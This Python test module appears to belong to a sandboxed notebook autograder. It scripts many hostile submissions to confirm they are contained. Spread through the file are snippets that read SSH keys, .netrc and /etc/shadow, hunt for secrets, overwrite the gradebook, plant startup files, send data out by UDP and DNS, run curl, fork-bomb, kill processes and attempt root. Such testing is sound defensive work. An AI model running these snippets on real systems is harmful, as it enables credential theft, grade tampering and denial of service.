"""Hostile submissions: what each tries, and what must be true afterwards.

A function marked with `code` runs in the box in place of the first answer, as it stands here, so it
imports what it needs; one marked with `folder` hands in something that never was a submission. The
first line of its docstring says what it tries.
"""

from __future__ import annotations

import ast
import inspect
import json
import os
import socket
import sys
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path

import nbformat

from tests.grading.batch import attempts
from tests.grading.batch.attempts import attempt, call, targets
from tests.grading.course import ANSWERS, NAME, TESTS, Course

NOTEBOOK = f"{NAME}.ipynb"
ALL, REST = 6.0, 3.0  # points of everything, and of what is right beside the attack
# Cheats that files hope to smuggle into somebody's kernel.
CHEAT = """import builtins
builtins.add = lambda a, b: a + b
builtins.mean = lambda v: sum(v) / len(v)
"""


@dataclass(frozen=True)
class Hostile:
    """One submission.

    Attributes
    ----------
    student
        Its folder.
    tries
        What it tries, in one sentence.
    hand_in
        Writes the submission.
    points
        The scores it may get.
    look_at
        What the instructor's table says of it.
    noted
        Whether it notes its attempts.
    may
        Attempts that may work, for they stay in the box; all others must be refused.
    check
        What else must be true afterwards.
    """

    student: str
    tries: str
    hand_in: Callable[[Course, str], object]
    points: tuple[float, ...]
    look_at: str = ""
    may: tuple[str, ...] = ()
    noted: bool = False
    check: Callable[[Path, Course], None] = field(default=lambda folder, course: None)


SUBMISSIONS: list[Hostile] = []


def code(*points: float, **more):
    """A submission whose first answer is the body of the function, or with ``cell`` another one."""
    cell = more.pop("cell", "add")

    def mark(function):
        answers = ANSWERS | {cell: _prelude() + _body(function)}

        def hand_in(course: Course, student: str) -> None:
            course.hand_in(student, answers, files={"targets.json": course.targets})

        _note(function, hand_in, points or (REST,), **{"noted": True, **more})
        return function

    return mark


def folder(*points: float, student: str | None = None, **more):
    """A submission that the function makes out of an honest one, in its folder."""

    def mark(function):
        def hand_in(course: Course, student: str) -> None:
            function(course.hand_in(student), course)

        _note(function, hand_in, points, student, **more)
        return function

    return mark


def _note(function, hand_in, points, student=None, **more) -> None:
    tries = inspect.getdoc(function).splitlines()[0].rstrip(".")
    SUBMISSIONS.append(Hostile(student or function.__name__, tries, hand_in, points, **more))


def checks(function):
    """Mark a check of the submission that was defined last."""
    SUBMISSIONS[-1] = replace(SUBMISSIONS[-1], check=function)
    return function


def _prelude() -> str:
    return inspect.getsource(attempts).split('"""', 2)[2]


def _body(function) -> str:
    source = textwrap.dedent(inspect.getsource(function))
    statements = ast.parse(source).body[0].body[1:]  # past the docstring
    lines = source.splitlines()[statements[0].lineno - 1 :]
    return "\n\n" + textwrap.dedent("\n".join(lines)) + "\n"


def notes(folder: Path) -> dict[str, str]:
    """What came of the attempts of a submission."""
    return json.loads((folder / attempts.NOTES).read_text())


def _edit(folder: Path, change: Callable[[dict], None]) -> None:
    """Change the notebook of a submission as JSON, past all that nbformat would repair."""
    path = folder / NOTEBOOK
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


def _by_id(content: dict, cell_id: str) -> dict:
    return next(cell for cell in content["cells"] if cell["id"] == cell_id)


# --- reading ------------------------------------------------------------------------------------


@code()
def reads_the_solutions():
    """Reads the solutions, of this course and of the one that the grader belongs to."""
    for place in ("solutions", "real_solutions"):
        attempt(f"list {place}", lambda place=place: os.listdir(targets()[place]))
    attempt("open", lambda: open(targets()["solutions"] + "/sums/sums.ipynb").read())
    attempt("go up", lambda: open("../../../solutions/sums/sums.ipynb").read())


@code()
def reads_the_gradebook():
    """Reads the gradebook."""
    import sqlite3

    path = targets()["gradebook"]
    students = "select * from student"
    attempt("open", lambda: open(path, "rb").read()[:100])
    attempt("query", lambda: sqlite3.connect(f"file:{path}?mode=ro", uri=True).execute(students))
    attempt("go up", lambda: open("../../../gradebook.db", "rb").read()[:100])


@code()
def changes_the_gradebook():
    """Gives itself all points in the gradebook."""
    import sqlite3

    path = targets()["gradebook"]

    def update():
        database = sqlite3.connect(path)
        database.execute("update grade set auto_score = 100, manual_score = 100")
        database.commit()

    attempt("update", update)
    attempt("overwrite", lambda: open(path, "wb").write(b"gone"))
    attempt("remove", lambda: os.unlink(path))


@code()
def reads_a_neighbour():
    """Reads another student's work."""
    attempt("open", lambda: open(targets()["neighbour"] + "/sums/sums.ipynb").read())
    attempt("go up", lambda: open("../../mia/sums/notes.txt").read())
    attempt("list graded", lambda: os.listdir(targets()["course"] + "/autograded"))
    attempt("list waiting", lambda: os.listdir(targets()["course"] + "/.grading"))


@code(REST, may=("real home",))
def reads_the_home():
    """Reads the instructor's home, keys and passwords."""
    home = targets()["home"]
    for name in (".netrc", ".ssh/id_ed25519", ".bash_history"):
        attempt(name, lambda name=name: open(f"{home}/{name}").read())
    attempt("list", lambda: os.listdir(home))
    attempt("real home", lambda: os.listdir(targets()["real_home"]))
    attempt("shadow", lambda: open("/etc/shadow").read())
    attempt("host name", lambda: open("/etc/hostname").read())


@checks
def _(folder, course):
    """A Python installed in the home shows, by its path and nothing beside it."""
    listed = notes(folder)["real home"]
    if listed.startswith("done: "):
        home = Path.home()
        python = [Path(place) for place in (sys.prefix, sys.base_prefix)]
        shown = {place.relative_to(home).parts[0] for place in python if place.is_relative_to(home)}
        assert set(ast.literal_eval(listed.removeprefix("done: "))) <= shown


@code(REST, may=("how many files",))
def hunts_for_secrets():
    """Looks through every file, variable and process that it can see for a secret."""
    import glob
    import re
    import sys

    sought = re.compile(rb"secret-of-\w+-" + targets()["token"].encode())
    found, seen = [], 0
    skipped = ("/usr", "/sys", sys.prefix, sys.base_prefix)
    for place, folders, names in os.walk("/"):
        folders[:] = [] if place.startswith((*skipped, "/proc/")) else folders
        for name in names:
            path = os.path.join(place, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 22:
                    seen += 1
                    found += sought.findall(open(path, "rb").read())
            except OSError:
                continue
    for path in glob.glob("/proc/[0-9]*/*") + glob.glob("/proc/[0-9]*/task/*/*"):
        if path.endswith(("environ", "cmdline", "maps", "mountinfo", "status", "stat")):
            try:
                content = open(path, "rb").read()
            except OSError:
                continue
            seen += 1
            found += sought.findall(content)
    found += sought.findall(repr(dict(os.environ)).encode())
    Path("found.txt").write_bytes(b"\n".join(found))
    attempt("how many files", lambda: seen)


@checks
def _(folder, course):
    assert (folder / "found.txt").read_bytes() == b""
    assert int(notes(folder)["how many files"].removeprefix("done: ")) > 20


@code(REST, may=("init_environ", "init_cmdline", "init_root", "list_processes"))
def snoops_in_proc():
    """Reads other processes' variables, files and memory."""
    attempt("init_environ", lambda: open("/proc/1/environ").read())
    attempt("init_cmdline", lambda: open("/proc/1/cmdline").read())
    attempt("init_root", lambda: os.listdir("/proc/1/root/"))
    attempt("list_processes", lambda: [p for p in os.listdir("/proc") if p.isdigit()])
    attempt("grader", lambda: open(f"/proc/{targets()['grader']}/environ").read())
    attempt("memory of init", lambda: open("/proc/1/mem", "r+b").read(1))
    attempt("memory of the machine", lambda: open("/proc/kcore", "rb").read(1) or 1 / 0)
    attempt("trace init", lambda: call("ptrace", 16, 1, 0, 0))
    attempt("read init", lambda: call("process_vm_readv", 1, None, 0, None, 0, 0))
    attempt("press a key", lambda: open("/proc/sysrq-trigger", "w").write("b"))
    attempt("set a pattern", lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/x"))


@checks
def _(folder, course):
    processes = ast.literal_eval(notes(folder)["list_processes"].removeprefix("done: "))
    assert len(processes) < 10  # its own; the machine has more


# --- writing ------------------------------------------------------------------------------------


@code(REST, may=("..", "../../.."))  # folders of the box itself
def writes_outside():
    """Writes into the course, the home, the system, the environment and the grader's code."""
    import sys

    for place in ("course", "home", "solutions", "neighbour", "real_home", "helpers", "site"):
        attempt(place, lambda place=place: open(targets()[place] + "/owned", "w").write("owned"))
    system = ("/etc", "/usr/local/bin", "/", "/dev", "/proc", "/sys", sys.prefix)
    for place in (*system, "../../..", ".."):
        attempt(place, lambda place=place: open(f"{place}/owned", "w").write("owned"))


@checks
def _(folder, course):
    for place in json.loads(course.targets).values():
        assert not os.path.exists(f"{place}/owned")
    assert not list(course.root.rglob("owned"))


@code(
    REST,
    may=("home .ipython", "home .config", "home .keras", "home .jupyter", "home .local", "ipython",
         "beside the notebook", "path file beside it", "real .ipython", "real .keras"),
)  # fmt: skip
def plants_startup_files():
    """Leaves files for the next that Python, IPython, matplotlib and Keras read at their start."""
    import site
    import sysconfig

    def plant(path, content=targets()["cheat"]):
        path = Path(path).expanduser()
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)

    startup = "profile_default/startup/00.py"
    attempt("home .ipython", lambda: plant(f"~/.ipython/{startup}"))
    attempt("ipython", lambda: plant(f"{os.environ['IPYTHONDIR']}/{startup}"))
    attempt("home .config", lambda: plant("~/.config/matplotlib/matplotlibrc", "backend: x"))
    attempt("home .keras", lambda: plant("~/.keras/keras.json", '{"backend": "x"}'))
    attempt("home .jupyter", lambda: plant("~/.jupyter/jupyter_config.py"))
    attempt("home .local", lambda: plant(site.getusersitepackages() + "/usercustomize.py"))
    attempt("beside the notebook", lambda: plant("sitecustomize.py"))
    attempt("path file beside it", lambda: plant("cheat.pth", "import sitecustomize"))
    for name in ("sitecustomize.py", "usercustomize.py", "cheat.pth", "numpy/__init__.py"):
        path = f"{sysconfig.get_path('purelib')}/{name}"
        attempt(name, lambda path=path: plant(path))
    real = targets()["home"]
    attempt("real .ipython", lambda: plant(f"{real}/.ipython/{startup}"))
    attempt("real .keras", lambda: plant(f"{real}/.keras/keras.json"))


@folder(0, student="zz_accomplice")
def accomplice(folder, course):
    """Hands in nothing and hopes for what an earlier submission has left behind."""
    course.hand_in("zz_accomplice", {})


@folder(ALL)
def brings_startup_files(folder, course):
    """Hands in modules and settings that the grader itself might load from its folder."""
    alarm = f"open({str(course.root / 'owned')!r}, 'w').write('owned')\n" + CHEAT
    for name in (
        *("sitecustomize.py", "usercustomize.py", "nbgrader_config.py", "jupyter_config.py"),
        *("conftest.py", "alembic.py", "filelock.py", "rich.py", "ipython_config.py"),
        *("helpers/__init__.py", ".ipython/profile_default/startup/00.py"),
    ):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(alarm)
    (folder / "cheat.pth").write_text("import sitecustomize")


@checks
def _(folder, course):
    assert not (course.root / "owned").exists()


@code(0, REST, may=("remove", "write", "make a folder", "put a link"))
def replaces_the_notebook():
    """Puts a forged notebook, a folder and a link in the place of its own notebook."""
    name = "sums.ipynb"
    content = json.loads(Path(name).read_text())
    content["metadata"]["forged"] = True
    attempt("write", lambda: Path(name).write_text(json.dumps(content)))
    attempt("remove", lambda: os.unlink(name))
    attempt("make a folder", lambda: (os.mkdir(name), Path(name, "in").write_text("x")))
    import shutil

    attempt("remove", lambda: shutil.rmtree(name))
    attempt("put a link", lambda: os.symlink(targets()["gradebook"], name))


@checks
def _(folder, course):
    graded = folder / NOTEBOOK
    assert graded.is_file() and not graded.is_symlink()
    assert "forged" not in nbformat.read(graded, as_version=4).metadata


@code(
    REST,
    may=("links", "a pipe", "a socket", "long", "newline", "escape", "no text", "hidden", "time",
         "a deep file"),
)  # fmt: skip
def leaves_odd_files():
    """Leaves links, pipes and files with hostile names for the grader to copy."""
    import socket

    attempt("links", lambda: os.symlink(targets()["gradebook"], "link"))
    attempt("links", lambda: os.symlink("/etc", "folder"))
    attempt("links", lambda: os.symlink("link", "link"))
    attempt("a pipe", lambda: os.mkfifo("pipe"))
    attempt("a socket", lambda: socket.socket(socket.AF_UNIX).bind("socket"))
    attempt("a device", lambda: os.mknod("device", 0o020666, os.makedev(1, 3)))
    attempt("long", lambda: open("n" * 255, "w").close())
    attempt("newline", lambda: open("first\nsecond", "w").close())
    attempt("escape", lambda: open("\x1b]0;owned\x07\x1b[2J", "w").close())
    attempt("no text", lambda: open(b"\xff\xfe.txt", "w").close())
    attempt("hidden", lambda: (os.mkdir(".git"), open(".git/config", "w").close()))
    attempt("time", lambda: Path("timestamp.txt").write_text("9" * 400))
    deep = "/".join(["d" * 200] * 18)
    attempt("a deep file", lambda: (os.makedirs(deep), Path(deep, "x").write_text("x")))


@checks
def _(folder, course):
    paths = list(folder.rglob("*"))
    assert all((path.is_file() or path.is_dir()) and not path.is_symlink() for path in paths)
    assert not (folder / ".git").exists()


@code(0, look_at="made folders that nobody can look into", may=("before",))
def hides_files_far_down():
    """Fills the disk in folders so deep that no path reaches them."""
    import time

    def fill():
        for _ in range(25):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        block = b"x" * (8 << 20)
        for number in range(30):
            with open(f"block{number}", "wb") as file:
                file.write(block)
            time.sleep(0.15)

    attempt("before", lambda: None)
    fill()
    time.sleep(60)


@code(0, REST, may=("deep",))
def nests_folders():
    """Nests three thousand folders, to end whatever walks through them."""

    def nest():
        here = os.getcwd()
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
        os.chdir(here)

    attempt("deep", nest)


# --- the network --------------------------------------------------------------------------------


@code()
def calls_by_tcp():
    """Connects by TCP to the grader's machine and to the world."""
    import socket
    import urllib.request

    for host in ("127.0.0.1", *targets()["addresses"]):
        grader = (host, targets()["tcp"])
        attempt(host, lambda grader=grader: socket.create_connection(grader, timeout=1))
    attempt("world", lambda: socket.create_connection(("1.1.1.1", 53), timeout=1))
    attempt("ipv6", lambda: socket.create_connection(("2606:4700:4700::1111", 53), timeout=1))
    attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), timeout=1))
    attempt("http", lambda: urllib.request.urlopen("http://example.org", timeout=1))
    attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    attempt("packets", lambda: socket.socket(17, socket.SOCK_RAW))
    attempt("virtual machine", lambda: socket.socket(40, socket.SOCK_STREAM))
    attempt("bluetooth", lambda: socket.socket(31, socket.SOCK_STREAM))


@code(REST, may=("to itself",))
def calls_by_udp_and_dns():
    """Sends secrets away by UDP and in names to be resolved."""
    import socket

    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    attempt("to itself", lambda: sender.sendto(b"hello", ("127.0.0.1", targets()["udp"])))
    for address in targets()["addresses"]:
        attempt(address, lambda to=address: sender.sendto(b"hello", (to, targets()["udp"])))
    attempt("world", lambda: sender.sendto(b"hello", ("1.1.1.1", 53)))
    attempt("everybody", lambda: sender.sendto(b"hello", ("224.0.0.1", targets()["udp"])))
    attempt("resolve", lambda: socket.getaddrinfo("secret.example.org", 80))


@code()
def calls_by_unix_sockets():
    """Connects to Unix sockets of the machine, those without a path too."""
    import glob
    import socket

    def connect(address):
        with socket.socket(socket.AF_UNIX) as caller:
            caller.connect(address)

    attempt("path", lambda: connect(targets()["socket"]))
    attempt("abstract", lambda: connect("\0" + targets()["abstract"]))
    for path in ("/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
        attempt(path, lambda path=path: connect(path))
    for path in glob.glob("/tmp/cnn-box-*/server") + glob.glob("/tmp/cnn-box-*/*/server"):
        attempt("fork server", lambda path=path: connect(path))


# --- too much of everything ---------------------------------------------------------------------


@code(0, REST, may=("forks",))
def forks_without_end():
    """Is a fork bomb."""
    import time

    def bomb():
        first, refused = os.getpid(), 0
        while refused < 5:
            try:
                os.fork()
            except BlockingIOError:
                refused += 1
                time.sleep(0.1)
        if os.getpid() != first:
            time.sleep(3600)
        return "as many as it may"

    attempt("forks", bomb)


@code(0, look_at="started more than 12 sessions of processes", may=("before",))
def takes_the_processor():
    """Starts processes in sessions of their own, which share the processor equally with others."""
    import time

    attempt("before", lambda: None)
    for _ in range(30):
        if os.fork() == 0:
            os.setsid()
            time.sleep(3600)
            os._exit(0)
    time.sleep(60)


@code(REST)
def takes_memory():
    """Takes memory until there is no more."""
    attempt("memory", lambda: [bytearray(50 << 20) for _ in range(400)])


@code(REST)
def takes_memory_that_nobody_counts():
    """Takes memory as a nameless file and as System V shared memory, which no limit counts."""
    attempt("memfd", lambda: os.memfd_create("x"))
    attempt("secret memfd", lambda: call("syscall", 447, 0))
    attempt("system v", lambda: call("shmget", 0, 600 << 20, 0o1600))
    attempt("locked", lambda: call("mlockall", 3))


@code(0, look_at="used more than 400 MB of memory", may=("before",))
def takes_shared_memory():
    """Takes memory in shared maps, which the limit of a process does not count."""
    import mmap
    import time

    attempt("before", lambda: None)
    maps = []
    for _ in range(8):
        maps.append(mmap.mmap(-1, 100 << 20))
        for page in range(0, 100 << 20, 4096):
            maps[-1][page] = 1
    time.sleep(60)


@code(0, look_at="opened more than 256 sockets", may=("before",))
def fills_the_buffers_of_sockets():
    """Opens sockets in many processes and fills their buffers, which are no process's memory."""
    import socket
    import time

    def fill(pairs):
        for _ in range(100):
            pairs.append(socket.socketpair())
            pairs[-1][0].setblocking(False)
            try:
                while True:
                    pairs[-1][0].send(bytes(1 << 14))
            except BlockingIOError:
                continue

    attempt("before", lambda: None)
    for _ in range(8):
        if os.fork() == 0:
            fill(kept := [])
            time.sleep(600)
            os._exit(len(kept))
    time.sleep(60)


@code(REST, may=("space",))
def fills_the_scratch_space():
    """Fills /tmp, /dev/shm and the home folder, which lie in memory."""
    import shutil

    def fill(place):
        Path(place).mkdir(parents=True)
        with open(f"{place}/block", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
                file.flush()

    for place in ("/tmp/full", "/dev/shm/full", str(Path.home() / "full")):
        attempt(place, lambda place=place: fill(place))
        shutil.rmtree(place)
    for place in ("/full", "/dev/full", "/run/full"):
        attempt(place, lambda place=place: fill(place))


@code(0, look_at="wrote more than 64 MB", may=("before",))
def fills_the_disk():
    """Fills the disk with files of its own folder."""
    import time

    attempt("before", lambda: None)
    for number in range(40):
        Path(f"block{number}").write_bytes(bytes(8 << 20))
        time.sleep(0.2)
    time.sleep(60)


@checks
def _(folder, course):
    assert sum(path.stat().st_size for path in folder.rglob("*") if path.is_file()) < 100 << 20


@code(0, look_at="stopped in cell 2", noted=False)
def makes_many_files():
    """Makes so many empty files that the disk has none left."""
    import itertools

    numbers = itertools.count()
    while True:
        try:
            for number in numbers:
                open(f"f{number}", "w").close()
        except KeyboardInterrupt:
            continue


@checks
def _(folder, course):
    assert len(list(folder.iterdir())) < 300


@code(0, look_at="printed more than 2 MB", may=("before",))
def prints_without_end():
    """Prints without end."""
    attempt("before", lambda: None)
    while True:
        print("x" * 1000)


@code(0, look_at="printed more than 2 MB", may=("before",))
def sends_a_giant_message():
    """Shows one text of forty megabytes."""
    from IPython.display import display

    attempt("before", lambda: None)
    display({"text/plain": "x" * (40 << 20)}, raw=True)


@code(0, look_at="printed more than 2 MB", may=("before",))
def floods_the_other_channels():
    """Sends endless messages to the grader on the channels on which nobody expects any."""
    import time

    from IPython import get_ipython

    attempt("before", lambda: None)
    kernel = get_ipython().kernel
    grader = kernel.get_parent("shell")["header"]["session"].encode()
    block = bytes(1 << 20)
    for _ in range(1000):
        for channel in (kernel.stdin_socket, kernel.control_stream.socket):
            channel.send_multipart([grader, b"<IDS|MSG>", block])
    time.sleep(60)


@code(REST, look_at="cell 2 took too long", may=("before",))
def loops_without_end():
    """Loops without end."""
    attempt("before", lambda: None)
    while True:
        pass


@code(0, look_at="could not be interrupted", may=("before",))
def ignores_interrupts():
    """Loops without end and takes no notice of an interrupt."""
    import time

    attempt("before", lambda: None)
    while True:
        try:
            time.sleep(1)
        except KeyboardInterrupt:
            continue


@code(0, look_at="could not be interrupted", may=("before",))
def stops_itself():
    """Stops its own process, so that no interrupt is heard."""
    import signal

    attempt("before", lambda: None)
    os.kill(os.getpid(), signal.SIGSTOP)


# --- processes ----------------------------------------------------------------------------------


@code(0, look_at="the kernel died", may=("before",))
def exits():
    """Ends its kernel before the tests."""
    attempt("before", lambda: None)
    os._exit(0)


@code(0, look_at="the kernel died", may=("before",))
def crashes():
    """Crashes its kernel by reading address 0."""
    import ctypes

    attempt("before", lambda: None)
    ctypes.string_at(0)


@code(0, REST, may=("everybody",))
def signals_everybody():
    """Kills every process that it may."""
    import signal

    attempt("grader", lambda: os.kill(targets()["grader"], signal.SIGKILL))
    attempt("everybody", lambda: os.kill(-1, signal.SIGKILL))


@code(0, REST, may=("init", "parent", "group"))
def signals_its_parent():
    """Kills its parent, its process group and the first process of the box."""
    import signal

    attempt("init", lambda: os.kill(1, signal.SIGKILL))
    for number in (signal.SIGTERM, signal.SIGKILL):
        if os.getppid() > 1:
            attempt("parent", lambda number=number: os.kill(os.getppid(), number))
    attempt("group", lambda: os.killpg(os.getpgid(0), signal.SIGKILL))


@code(REST, may=("orphan", "forked orphan"))
def leaves_orphans():
    """Leaves processes behind that have forked twice, and are deaf to signals."""
    import subprocess
    import sys
    import time

    sleeper = (
        "import signal, time\n"
        "for number in (1, 2, 15):\n"
        "    signal.signal(number, signal.SIG_IGN)\n"
        "time.sleep(3600)"
    )

    def forked():
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3600)
            os._exit(0)
        return "left"

    def orphan():
        command = [sys.executable, "-c", sleeper, targets()["token"]]
        subprocess.Popen(["setsid", "--fork", *command])
        return "left"

    attempt("orphan", orphan)
    attempt("forked orphan", forked)


@code()
def mounts():
    """Mounts, makes namespaces, changes its root and opens files by number."""
    attempt("mount", lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, None))
    attempt("bind", lambda: call("mount", b"/", b"/tmp", None, 4096, None))
    attempt("make writable", lambda: call("mount", None, b"/", None, 32 | 4096, None))
    attempt("unmount", lambda: call("umount2", b"/home", 2))
    attempt("new user", lambda: call("unshare", 0x10000000))
    attempt("new mounts", lambda: call("unshare", 0x00020000))
    attempt("enter", lambda: call("setns", os.open("/proc/1/ns/net", os.O_RDONLY), 0))
    attempt("root", lambda: os.chroot("/tmp"))
    attempt("by handle", lambda: call("open_by_handle_at", 3, bytes(64), 0))
    attempt("keys", lambda: call("syscall", 248, b"user", b"x", b"y", 1, -3))
    attempt("ring", lambda: call("syscall", 425, 1, bytes(120)))
    attempt("program in the kernel", lambda: call("syscall", 321, 0, bytes(120), 120))


@code(REST, may=("who it is", "set the bit", "its capabilities"))
def becomes_root():
    """Becomes root: by call, by a file with the setuid bit, by sudo and su."""
    import shutil
    import subprocess

    attempt("who it is", lambda: (os.getuid(), os.geteuid(), os.getgroups()))
    attempt("user", lambda: os.setuid(0))
    attempt("group", lambda: os.setgid(0))
    attempt("groups", lambda: os.setgroups([0]))
    attempt("set the bit", lambda: (shutil.copy("/bin/true", "root"), os.chmod("root", 0o6755)))
    attempt("give away", lambda: os.chown("root", 0, 0))
    programs = (["sudo", "-n", "true"], ["su", "-c", "true"], ["mount", "--bind", "/", "/tmp"])
    for command in programs:
        attempt(command[0], lambda command=command: subprocess.run(command, check=True, timeout=5))
    attempt(
        "its capabilities",
        lambda: [line for line in open("/proc/self/status") if line.startswith(("Cap", "NoNew"))],
    )


@checks
def _(folder, course):
    assert not (folder / "root").exists() or (folder / "root").stat().st_mode & 0o7111 == 0
    said = notes(folder)
    assert "(0," not in said["who it is"]
    held = ast.literal_eval(said["its capabilities"].removeprefix("done: "))
    assert [line.split()[1] for line in held] == ["0" * 16] * 5 + ["1"]


@code()
def opens_devices():
    """Opens the machine's disks, memory and log, and makes a device of its own."""
    for path in ("/dev/sda", "/dev/vda", "/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse"):
        attempt(path, lambda path=path: open(path, "rb"))
    attempt("disk", lambda: os.mknod("/tmp/disk", 0o060666, os.makedev(254, 0)))
    attempt("clock", lambda: __import__("time").clock_settime(0, 0))
    attempt("host name", lambda: call("sethostname", b"owned", 5))
    attempt("go first", lambda: os.nice(-5))
    attempt("live on", lambda: Path("/proc/self/oom_score_adj").write_text("-1000"))


@code(REST, may=("shell", "python"))
def runs_programs():
    """Runs shells and programs instead of Python."""
    import subprocess

    read = f"cat {targets()['solutions']}/sums/*; ls {targets()['course']}; id -u; printenv"
    attempt("shell", lambda: subprocess.run(["sh", "-c", read], stdout=-1, text=True).stdout)
    attempt("curl", lambda: subprocess.run(["curl", "-m", "2", "http://example.org"], check=True))
    attempt("git", lambda: subprocess.run(["git", "-C", targets()["course"], "log"], check=True))
    attempt("schedule", lambda: subprocess.run(["crontab", "-l"], check=True))


@checks
def _(folder, course):
    assert notes(folder)["shell"].startswith("done: '1000\\n")  # neither file nor folder before it


# --- notebooks that are none --------------------------------------------------------------------


@folder(0, look_at="could not be read")
def is_binary(folder, course):
    """Hands in random bytes as a notebook."""
    (folder / NOTEBOOK).write_bytes(bytes(range(256)) * 100)


@folder(0, look_at="could not be read")
def is_empty(folder, course):
    """Hands in an empty file as a notebook."""
    (folder / NOTEBOOK).write_bytes(b"")


@folder(0, look_at="could not be read")
def is_a_list(folder, course):
    """Hands in JSON that is no notebook."""
    (folder / NOTEBOOK).write_text("[1, 2, 3]")


@folder(0, look_at="could not be read")
def is_nested(folder, course):
    """Hands in JSON with a hundred thousand brackets, to overflow the reader's stack."""
    (folder / NOTEBOOK).write_text("[" * 100_000)


@folder(0, look_at="could not be read")
def is_huge(folder, course):
    """Hands in a notebook of two gigabytes."""
    with open(folder / NOTEBOOK, "ab") as file:
        file.truncate(2 << 30)


@folder(0, look_at="could not be read")
def has_no_cells(folder, course):
    """Hands in a notebook whose cells are a number."""
    _edit(folder, lambda content: content.update(cells=5))


@folder(0, look_at="could not be read")
def is_from_the_future(folder, course):
    """Hands in a notebook of format 99."""
    _edit(folder, lambda content: content.update(nbformat=99))


@folder(0, ALL)
def is_ancient(folder, course):
    """Hands in a notebook of format 3."""
    notebook = nbformat.read(folder / NOTEBOOK, as_version=4)
    with open(folder / NOTEBOOK, "w") as file:
        file.write(nbformat.writes(nbformat.convert(notebook, 3), version=3))


@folder(REST)
def is_older_still(folder, course):
    """Hands in a notebook of format 2."""
    cell = {"cell_type": "code", "language": "python", "input": ANSWERS["add"], "outputs": []}
    cell |= {"collapsed": False, "prompt_number": 1}
    old = {"nbformat": 2, "metadata": {"name": "x"}, "worksheets": [{"cells": [cell]}]}
    (folder / NOTEBOOK).write_text(json.dumps(old))


@folder(ALL)
def has_every_cell_twice(folder, course):
    """Hands in every cell twice, with the same ids and the same nbgrader metadata."""
    _edit(folder, lambda content: content.update(cells=content["cells"] * 2))


@folder(ALL)
def asks_for_another_kernel(folder, course):
    """Asks for a kernel of its own, and for a name that is a path."""
    kernel = {"name": "../../evil", "display_name": "x", "language": "R", "argv": ["id"]}
    metadata = {"kernelspec": kernel, "language_info": {"name": "R"}}
    _edit(folder, lambda content: content["metadata"].update(metadata))


@folder(ALL)
def asks_for_a_list_of_kernels(folder, course):
    """Puts lists and numbers where the notebook's metadata should be."""
    metadata = {"kernelspec": [1], "widgets": 7, "celltoolbar": {}}
    _edit(folder, lambda content: content.update(metadata=metadata))


@folder(0)
def gives_itself_a_thousand_points(folder, course):
    """Hands in nothing, with points, flags and ids of its own choice in the metadata."""

    def change(content):
        for cell in content["cells"]:
            cell["source"] = "" if cell["id"] in ANSWERS else cell["source"]
            if (about := cell["metadata"].get("nbgrader")) is not None:
                about.update(points=1000, grade=True, solution=True, task=True, locked=False)
        about = {"grade_id": "more", "grade": True, "points": 1000, "locked": True}
        about |= {"solution": False, "task": False, "schema_version": 3}
        cell = {"cell_type": "code", "source": "", "outputs": [], "execution_count": None}
        content["cells"].append(cell | {"id": "more", "metadata": {"nbgrader": about}})

    _edit(folder, change)


@folder(0)
def skips_its_tests(folder, course):
    """Tags the tests to be skipped, or to be right when they fail."""

    def change(content):
        for cell in content["cells"]:
            cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
            cell["source"] = "" if cell["id"] in ANSWERS else cell["source"]

    _edit(folder, change)


@folder(0)
def turns_tests_into_text(folder, course):
    """Turns the tests into raw cells and text."""

    def change(content):
        for cell in content["cells"]:
            if cell["id"] in TESTS:
                cell["cell_type"] = "raw" if cell["id"] == "add-small" else "markdown"
                cell.pop("outputs"), cell.pop("execution_count")
            cell["source"] = "" if cell["id"] in ANSWERS else cell["source"]

    _edit(folder, change)


@folder(0)
def deletes_its_tests(folder, course):
    """Deletes the tests, and everything else."""
    _edit(folder, lambda content: content.update(cells=[]))


@folder(0, REST, ALL)
def has_metadata_of_wrong_types(folder, course):
    """Puts numbers, lists and nothing where nbgrader's metadata should be."""
    wrong = {"grade_id": "add-small", "points": "many"}
    values = iter([5, [], None, "x", {"grade_id": ["a"]}, wrong, {}])

    def change(content):
        for cell in content["cells"]:
            cell["metadata"]["nbgrader"] = next(values)

    _edit(folder, change)


@folder(ALL)
def has_ids_that_are_none(folder, course):
    """Gives its cells ids that are empty, long, equal and full of markup."""
    values = iter(["", "x" * 5000, "<script>", "<script>", "a b", "../..", "\n"])

    def change(content):
        for cell in content["cells"]:
            cell["id"] = next(values)

    _edit(folder, change)


@folder(0, look_at="could not be read")
def has_half_characters(folder, course):
    """Writes half of a surrogate pair, which no file can hold, into its answers."""
    _edit(folder, lambda content: _by_id(content, "words").update(source="half: \ud800"))


# --- folders and names --------------------------------------------------------------------------


@folder(0, look_at="is a link")
def links_its_notebook(folder, course):
    """Hands in a link to the solution in place of the notebook."""
    (folder / NOTEBOOK).unlink()
    (folder / NOTEBOOK).symlink_to(course.root / "solutions" / NAME / NOTEBOOK)


@folder(0, look_at="link")
def links_its_folder(folder, course):
    """Hands in a link to the folder of the solutions in place of its own."""
    (folder / NOTEBOOK).unlink()
    folder.rmdir()
    folder.symlink_to(course.root / "solutions" / NAME)


@folder(0, look_at="link")
def links_its_folder_to_the_home(folder, course):
    """Hands in a link to the instructor's home in place of its folder."""
    (folder / NOTEBOOK).unlink()
    folder.rmdir()
    folder.symlink_to(json.loads(course.targets)["home"])


@folder(ALL, look_at="link")
def links_files(folder, course):
    """Hands in links to files, folders and to themselves."""
    (folder / "gradebook").symlink_to(course.root / "gradebook.db")
